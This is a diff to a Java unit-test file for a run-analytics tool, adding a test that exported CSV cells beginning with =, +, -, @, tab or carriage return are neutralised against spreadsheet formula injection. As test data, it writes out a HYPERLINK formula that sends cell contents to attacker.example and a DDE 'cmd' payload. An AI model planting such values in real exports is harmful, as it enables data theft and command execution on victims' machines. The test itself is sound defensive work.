@@ -54,7 +54,8 @@ class SummaryAndComparisonTest {
         assertThat(summary.runsByStatus()).containsExactly(
                 org.assertj.core.api.Assertions.entry("running", 1), org.assertj.core.api.Assertions.entry("paused", 0),
                 org.assertj.core.api.Assertions.entry("completed", 2), org.assertj.core.api.Assertions.entry("failed", 1),
-                org.assertj.core.api.Assertions.entry("cancelled", 0));
+                org.assertj.core.api.Assertions.entry("cancelled", 0),
+                org.assertj.core.api.Assertions.entry("interrupted", 0));
         assertThat(summary.averageDurationSeconds()).as("finished runs only").isEqualTo(150.0);
         assertThat(summary.totalTrainingSeconds()).isEqualTo(950.0);
         assertThat(summary.averageThroughputSamplesPerSec()).isEqualTo((100 + 75 + 10 + 200) / 4.0);
@@ -179,6 +180,45 @@ class SummaryAndComparisonTest {
                         + "overall_score,winner_of",
                 "a,run a,completed,100.0,100.0,80.0,0.5,0.5,0.0278,90.0,best_throughput fastest most_efficient",
                 "\"b,\"\"quoted\"\"\",\"run b,\"\"quoted\"\"\",completed,75.0,300.0,60.0,0.4,0.4,0.0278,67.5,best_loss");
+    }
+
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAsAFormulaAreNeutralised() {
+        // CSV injection (OWASP): a run named like a formula, opened in a spreadsheet, must read as text.
+        String formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
+        Comparison comparison = ComparisonCalculator.compare(List.of(
+                analyzer.analyze(run("a", 100, 80, 0.5, 100, 100).name(formula).write()),
+                analyzer.analyze(run("b", 300, 60, 0.4, 50, 100).name("+1+cmd|' /C calc'!A0").write()),
+                analyzer.analyze(run("c", 300, 60, 0.4, 50, 100).name("-2+3").write()),
+                analyzer.analyze(run("d", 300, 60, 0.4, 50, 100).name("@SUM(1)").write()),
+                analyzer.analyze(run("e", 300, 60, 0.4, 50, 100).name("\t=1").write()),
+                analyzer.analyze(run("f", 300, 60, 0.4, 50, 100).name("\r=1").write())));
+
+        List<String> names = readColumn(AnalyticsCsv.comparison(comparison), "name");
+
+        assertThat(names).containsExactly("'" + formula, "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)", "'\t=1",
+                "'\n=1");
+        assertThat(readColumn(AnalyticsCsv.flattened(analyzer.analyze(run("g", 100, 80, 0.5, 100).name(formula)
+                .write())), "value")).contains("'" + formula).doesNotContain(formula);
+        assertThat(AnalyticsCsv.flattened(analyzer.analyze(run("h", 100, 80, -0.5, 100).write())).lines())
+                .as("numbers stay numbers, negative ones too").contains("losses.final,-0.5");
+    }
+
+    private static List<String> readColumn(final String csv, final String column) {
+        try (com.fasterxml.jackson.databind.MappingIterator<java.util.Map<String, String>> rows =
+                     new com.fasterxml.jackson.dataformat.csv.CsvMapper()
+                             .readerFor(java.util.Map.class)
+                             .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader())
+                             .readValues(csv)) {
+            List<String> values = new ArrayList<>();
+            while (rows.hasNext()) {
+                values.add(rows.next().get(column));
+            }
+            return values;
+        }
+        catch (IOException e) {
+            throw new java.io.UncheckedIOException(e);
+        }
     }
 
     @Test
